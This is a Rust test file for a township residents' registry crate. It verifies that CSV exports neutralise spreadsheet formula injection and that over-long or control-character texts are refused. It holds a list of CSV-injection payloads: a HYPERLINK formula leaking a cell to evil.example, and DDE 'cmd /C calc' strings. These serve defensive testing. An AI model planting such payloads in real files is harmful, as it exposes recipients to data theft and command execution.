//! Exports are safe to open, and whatever the registry accepts every export can write
//! (issue 18, items 5 and 6).
//!
//! Given a township whose villages, groups, addresses, residents and relations are named like
//! spreadsheet formulas, every CSV the crate writes has no field that a spreadsheet would run;
//! given texts too long for a cell or holding control characters, the command is refused and
//! changes nothing.

use fangkong::ValueError;
use fangkong::limits::{ADDRESS_MAX_CHARS, NAME_MAX_CHARS, NOTE_MAX_CHARS};
#[cfg(feature = "csv")]
use fangkong::report::{Cell, Sheet};
use fangkong::report::{Lang, Schedule, csv_field_value, csv_safe_field};
use fangkong::screening::{
    Interview, ReportedSymptoms, RiskLevel, ScreeningRule, Stay, TravelHistory,
};
use fangkong::{
    DeregistrationReason, Duty, Error, Founding, HouseholdId, Instant, Registry, Relation,
    ResidentDetails, Role, Sex, StaffId, UnitId, UnitKind,
};

use crate::common::{at, day};

const T: &str = "2020-01-24T09:00:00+08:00";
const EVENING: &str = "2020-01-24T20:00:00+08:00";
const DAY: &str = "2020-01-24";

/// What a spreadsheet runs when a field starts with it (OWASP, CSV Injection).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Texts a registry accepts that a spreadsheet would read as formulas: one per printable
/// trigger (tab and carriage return are control characters, refused in names and addresses,
/// so they reach a CSV only through a sheet of the caller's own), and one already quoted.
const PAYLOADS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
];

struct Hostile {
    reg: Registry,
    leader: StaffId,
    worker: StaffId,
    groups: Vec<UnitId>,
    homes: Vec<HouseholdId>,
}

/// A township with a village, a group, a household (its address), a head of household and a
/// relative (relation written out) named after each payload; Wuhan high-risk and the January
/// 2020 rule; every head back from Wuhan, so each is a key person.
fn hostile_township() -> Hostile {
    let t = at(T);
    let mut reg = Registry::found(Founding::new("Huochezhan", "Secretary Liu"), t);
    let leader = reg.staff_ids().next().unwrap();
    let worker = reg
        .enroll_staff(leader, t, "Li Hua", Role::GridWorker, None)
        .unwrap();
    let town = reg.township();
    reg.designate_risk_area(
        leader,
        t,
        "420100".parse().unwrap(),
        RiskLevel::HIGH,
        day("2020-01-08"),
        "NHC notice",
    )
    .unwrap();
    reg.execute(
        leader,
        t,
        fangkong::screening::ScreeningCommand::AdoptScreeningRule {
            rule: ScreeningRule::returnee_jan2020(),
        },
    )
    .unwrap();
    let (mut groups, mut homes) = (Vec::new(), Vec::new());
    for p in PAYLOADS {
        let village = reg
            .establish_unit(leader, t, UnitKind::Village, p, town, None)
            .unwrap();
        let group = reg.establish_group(leader, t, village, 1, p).unwrap();
        reg.assign(leader, t, worker, group, Duty::Grid).unwrap();
        let home = reg.register_household(worker, t, group, p).unwrap();
        let head = ResidentDetails::new(p, Sex::Female, day("1961-03-02"), Relation::Head);
        let head = reg.register_resident(worker, t, home, head).unwrap();
        let relative =
            ResidentDetails::new(p, Sex::Male, day("1990-05-05"), Relation::Other(p.into()));
        reg.register_resident(worker, t, home, relative).unwrap();
        let travel = TravelHistory {
            stays: vec![
                Stay::new(
                    "420100".parse().unwrap(),
                    day("2020-01-10"),
                    day("2020-01-20"),
                )
                .unwrap(),
            ],
            transits: vec![],
            returned_home: Some(day("2020-01-21")),
        };
        let interview = Interview::new(travel, true, ReportedSymptoms::default()).unwrap();
        reg.record_interview(worker, t, head, None, interview)
            .unwrap();
        groups.push(group);
        homes.push(home);
    }
    Hostile {
        reg,
        leader,
        worker,
        groups,
        homes,
    }
}

/// Every CSV the crate writes of the hostile township, by name: the resident roster and the
/// key-person list (masked and unmasked, in each language), and the day tables.
#[cfg(feature = "csv")]
fn every_csv(h: &mut Hostile) -> Vec<(String, String)> {
    use fangkong::report::{sheet_to_csv, tables_to_csv};
    let (t, d) = (at(EVENING), day(DAY));
    h.reg
        .set_report_schedule(h.leader, t, Schedule::new(d))
        .unwrap();
    let mut out = Vec::new();
    for lang in [Lang::Zh, Lang::En, Lang::Both] {
        let sheets = [
            ("roster", h.reg.resident_roster(lang)),
            ("key people", h.reg.key_person_list(d, lang)),
            (
                "roster unmasked",
                h.reg.export_resident_roster(h.leader, t, lang).unwrap(),
            ),
            (
                "key people unmasked",
                h.reg.export_key_person_list(h.leader, t, d, lang).unwrap(),
            ),
            ("day table", h.reg.day_table(d).to_sheet(lang)),
        ];
        for (name, sheet) in sheets {
            assert!(!sheet.rows.is_empty(), "{name} has rows");
            out.push((format!("{name} {lang:?}"), sheet_to_csv(&sheet).unwrap()));
        }
        let tables = tables_to_csv(&[h.reg.day_table(d)], lang).unwrap();
        out.push((format!("tables_to_csv {lang:?}"), tables));
    }
    out
}

#[cfg(feature = "csv")]
fn parsed(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[cfg(feature = "csv")]
#[test]
fn no_csv_the_crate_writes_has_a_field_a_spreadsheet_would_run() {
    // Given a township named like formulas
    let mut h = hostile_township();
    // When every list and table is written as CSV
    let csvs = every_csv(&mut h);
    // Then, once parsed, no field starts with one of the six characters
    let mut payload_fields = 0;
    for (name, csv) in &csvs {
        for row in parsed(csv) {
            for field in row {
                assert!(
                    !field.starts_with(TRIGGERS),
                    "{name}: the field {field:?} would run as a formula"
                );
                // and each reads back to what was registered (unit labels carry their id)
                let value = csv_field_value(&field);
                if PAYLOADS.iter().any(|p| value.starts_with(p)) {
                    payload_fields += 1;
                }
            }
        }
    }
    // 5 payloads × 3 languages × (roster 2 × (name, address, group) + relation ×1 … ): at least
    // every payload in every CSV.
    assert!(
        payload_fields >= PAYLOADS.len() * csvs.len(),
        "{payload_fields}"
    );
}

#[cfg(feature = "csv")]
#[test]
fn the_read_back_function_recovers_every_registered_text() {
    // Given the hostile township's roster in English
    let mut h = hostile_township();
    let roster = h.reg.resident_roster(Lang::En);
    // When it is written as CSV and parsed back
    let csv = fangkong::report::sheet_to_csv(&roster).unwrap();
    let rows = parsed(&csv);
    // Then every field, read back, is the text of the sheet's cell
    assert_eq!(rows.len(), roster.rows.len() + 1);
    for (row, cells) in rows[1..].iter().zip(&roster.rows) {
        for (field, cell) in row.iter().zip(cells) {
            assert_eq!(csv_field_value(field), cell.to_string());
        }
    }
    // and names, addresses, groups and relations are the payloads, as registered
    let names: Vec<&str> = rows[1..].iter().map(|r| csv_field_value(&r[0])).collect();
    for p in PAYLOADS {
        assert_eq!(names.iter().filter(|n| **n == p).count(), 2, "{p}");
    }
    assert!(
        h.reg
            .export_resident_roster(h.worker, at(T), Lang::En)
            .is_err()
    );
}

#[cfg(feature = "csv")]
#[test]
fn tab_and_carriage_return_cells_are_neutralised_and_counts_are_not() {
    use fangkong::report::sheet_to_csv;
    // Given a sheet of the caller's own with cells starting with each trigger, a text that
    // reads as a negative number, and counts
    let mut rows: Vec<Vec<Cell>> = TRIGGERS
        .iter()
        .map(|c| vec![Cell::Text(format!("{c}1+1")), Cell::Number(7)])
        .collect();
    rows.push(vec![Cell::Text("-3".into()), Cell::Number(0)]);
    let sheet = Sheet::new("mine", vec!["=heading".into(), "n".into()], rows);
    // When it is written as CSV
    let csv = sheet_to_csv(&sheet).unwrap();
    let parsed = parsed(&csv);
    // Then every text field has a quote in front, the heading too, and reads back
    assert_eq!(parsed[0], ["'=heading", "n"]);
    for (row, c) in parsed[1..].iter().zip(TRIGGERS) {
        assert_eq!(row[0], format!("'{c}1+1"));
        assert_eq!(csv_field_value(&row[0]), format!("{c}1+1"));
        assert_eq!(row[1], "7");
    }
    // The choice: a text cell is neutralised even when it is a number; counts are digits.
    assert_eq!(parsed[7], ["'-3", "0"]);
    assert!(csv.ends_with("'-3,0\n"), "{csv:?}");
}

#[test]
fn writing_and_reading_back_a_field_is_exact_for_any_text() {
    for text in PAYLOADS.into_iter().chain([
        "\t1", "\r1", "''-1", "'", "", "plain", "it's", "'quoted'", "-",
    ]) {
        let written = csv_safe_field(text);
        assert!(!written.starts_with(TRIGGERS), "{written:?}");
        assert_eq!(csv_field_value(&written), text);
    }
}

/// The error says which field and how long, or where the control character is, never the text.
#[track_caller]
fn assert_short_message(err: &Error) {
    assert!(err.to_string().len() < 400, "{err}");
    assert!(
        err.display_zh().to_string().len() < 400,
        "{}",
        err.display_zh().to_string()
    );
    assert!(!err.to_string().contains("前前前"), "{err}");
}

#[test]
fn a_40000_character_address_is_refused_at_the_command_and_changes_nothing() {
    // Given a township
    let mut h = hostile_township();
    let households = h.reg.households().count();
    let roster = h.reg.resident_roster(Lang::En);
    let refusals = h.reg.refusals().unwrap().len();
    // When a grid worker registers a household with a 40,000-character address
    let address = "前".repeat(40_000);
    let err = h
        .reg
        .register_household(h.worker, at(T), h.groups[0], address)
        .unwrap_err();
    // Then it is refused with the length and the limit, and nothing changes
    assert_eq!(
        err,
        Error::Value(ValueError::TextTooLong {
            what: "the household's address".into(),
            chars: 40_000,
            max: ADDRESS_MAX_CHARS,
        })
    );
    assert_short_message(&err);
    assert_eq!(h.reg.households().count(), households);
    assert_eq!(h.reg.resident_roster(Lang::En), roster);
    assert_eq!(h.reg.refusals().unwrap().len(), refusals + 1);
    // and the ledger replays to the same registry
    assert_eq!(Registry::replay(h.reg.ledger()).unwrap(), h.reg);
}

#[test]
fn a_10_mb_name_is_refused_at_the_command_and_changes_nothing() {
    // Given a township
    let mut h = hostile_township();
    let roster = h.reg.resident_roster(Lang::En);
    // When a resident with a 10 MB name is registered
    let name = "前".repeat(10 * 1024 * 1024 / 3);
    let chars = name.chars().count();
    let details = ResidentDetails::new(name, Sex::Male, day("2000-01-01"), Relation::Child);
    let err = h
        .reg
        .register_resident(h.worker, at(T), h.homes[0], details)
        .unwrap_err();
    // Then it is refused, and the roster is as it was
    assert_eq!(
        err,
        Error::Value(ValueError::TextTooLong {
            what: "the resident's name".into(),
            chars,
            max: NAME_MAX_CHARS,
        })
    );
    assert_short_message(&err);
    assert_eq!(h.reg.resident_roster(Lang::En), roster);
}

#[cfg(feature = "xlsx")]
#[test]
fn the_longest_address_accepted_goes_into_the_roster_workbook() {
    use fangkong::report::sheets_to_xlsx;
    // Given a household at the longest address accepted, and one a character longer refused
    let mut h = hostile_township();
    let longest = "前".repeat(ADDRESS_MAX_CHARS);
    h.reg
        .register_household(h.worker, at(T), h.groups[0], &longest)
        .unwrap();
    let err = h
        .reg
        .register_household(h.worker, at(T), h.groups[0], format!("{longest}前"))
        .unwrap_err();
    assert!(
        matches!(err, Error::Value(ValueError::TextTooLong { chars, max, .. }) if chars == max + 1)
    );
    // and a resident with the longest name accepted in it
    let home = h.reg.households().last().unwrap().id;
    let name = "王".repeat(NAME_MAX_CHARS);
    let details = ResidentDetails::new(name, Sex::Male, day("2000-01-01"), Relation::Head);
    h.reg
        .register_resident(h.worker, at(T), home, details)
        .unwrap();
    // When the roster and the key-person list are written as a workbook
    let sheets = [
        h.reg.resident_roster(Lang::Both),
        h.reg.key_person_list(day(DAY), Lang::Both),
    ];
    // Then Excel's limits hold
    let bytes = sheets_to_xlsx(&sheets, at(T)).unwrap();
    assert!(bytes.starts_with(b"PK"));
}

#[test]
fn control_characters_are_refused_in_names_and_addresses_and_change_nothing() {
    let mut h = hostile_township();
    let t = at(T);
    let units = h.reg.units().count();
    for (bad, code) in [
        ("\tQianjin", 0x09),
        ("Qian\njin", 0x0A),
        ("\r=1+1", 0x0D),
        ("Qian\0jin", 0x00),
        ("Qian\u{1b}[31mjin", 0x1B),
        ("Qian\u{7f}jin", 0x7F),
        ("Qian\u{85}jin", 0x85),
        ("Qian\u{9f}jin", 0x9F),
    ] {
        let position = bad.chars().position(|c| u32::from(c) == code).unwrap() + 1;
        let err = h
            .reg
            .establish_unit(h.leader, t, UnitKind::Village, bad, h.reg.township(), None)
            .unwrap_err();
        assert_eq!(
            err,
            Error::Value(ValueError::ControlCharacterInText {
                what: "the new unit's name".into(),
                code,
                position,
            }),
            "{bad:?}"
        );
        assert_short_message(&err);
        let err = h
            .reg
            .register_household(h.worker, t, h.groups[0], bad)
            .unwrap_err();
        assert!(
            matches!(err, Error::Value(ValueError::ControlCharacterInText { code: c, .. }) if c == code),
            "{bad:?}: {err:?}"
        );
        let details = ResidentDetails::new(bad, Sex::Male, day("2000-01-01"), Relation::Child);
        let err = h
            .reg
            .register_resident(h.worker, t, h.homes[0], details)
            .unwrap_err();
        assert!(
            matches!(err, Error::Value(ValueError::ControlCharacterInText { .. })),
            "{err:?}"
        );
        let err = h
            .reg
            .enroll_staff(h.leader, t, bad, Role::Volunteer, None)
            .unwrap_err();
        assert!(
            matches!(err, Error::Value(ValueError::ControlCharacterInText { .. })),
            "{err:?}"
        );
    }
    assert_eq!(h.reg.units().count(), units);
    assert_eq!(Registry::replay(h.reg.ledger()).unwrap(), h.reg);
}

#[test]
fn notes_and_reasons_take_tabs_and_line_breaks_but_no_other_control_character() {
    // Given a township with a reporting schedule
    let mut h = hostile_township();
    let (t, evening, d) = (at(T), at(EVENING), day(DAY));
    h.reg
        .set_report_schedule(h.leader, t, Schedule::new(d))
        .unwrap();
    let village = h.reg.unit(h.groups[0]).unwrap().parent.unwrap();
    // When a report's note holds a NUL, or is a character too long, it is refused
    let err = h
        .reg
        .submit_report(h.leader, evening, village, d, "all well\0")
        .unwrap_err();
    assert_eq!(
        err,
        Error::Value(ValueError::ControlCharacterInText {
            what: "the report's note".into(),
            code: 0,
            position: 9,
        })
    );
    let err = h
        .reg
        .submit_report(
            h.leader,
            evening,
            village,
            d,
            "a".repeat(NOTE_MAX_CHARS + 1),
        )
        .unwrap_err();
    assert!(matches!(
        err,
        Error::Value(ValueError::TextTooLong {
            max: NOTE_MAX_CHARS,
            ..
        })
    ));
    assert!(h.reg.day_table(d).rows.iter().all(|r| r.note.is_empty()));
    // Then a note with tabs and line breaks (Windows' too), at the limit, is accepted
    let lines = "line 1\tok\r\nline 2\n";
    let note = format!("{lines}{}", "a".repeat(NOTE_MAX_CHARS - lines.len()));
    assert_eq!(note.chars().count(), NOTE_MAX_CHARS);
    h.reg
        .submit_report(h.leader, evening, village, d, note.as_str())
        .unwrap();
    assert!(h.reg.day_table(d).rows.iter().any(|r| r.note == note));
    // and so is a reason for a deregistration, where a name would not be
    let resident = h.reg.residents().last().unwrap().id;
    h.reg
        .deregister_resident(
            h.worker,
            evening,
            resident,
            DeregistrationReason::RegisteredInError("duplicate of\n\tthe row above".into()),
        )
        .unwrap();
    assert_eq!(Registry::replay(h.reg.ledger()).unwrap(), h.reg);
}

#[test]
fn every_command_module_checks_its_texts() {
    // Given a township
    let mut h = hostile_township();
    let t: Instant = at(T);
    let long_title = "令".repeat(fangkong::limits::TITLE_MAX_CHARS + 1);
    // When a command of each module carries a text over its limit, it is refused
    let screening = h.reg.designate_risk_area(
        h.leader,
        t,
        "420100".parse().unwrap(),
        RiskLevel::MEDIUM,
        day(DAY),
        long_title.as_str(),
    );
    let venue = h.reg.register_venue(
        h.leader,
        t,
        "茶".repeat(NAME_MAX_CHARS + 1),
        fangkong::gathering::VenueKind::TEAHOUSE,
        h.groups[0],
    );
    for (what, result) in [
        ("the basis of the designation", screening.map(|_| ())),
        ("the venue's name", venue.map(|_| ())),
    ] {
        let err = result.unwrap_err();
        assert!(
            matches!(&err, Error::Value(ValueError::TextTooLong { what: w, .. }) if w == what),
            "{err:?}"
        );
    }
}
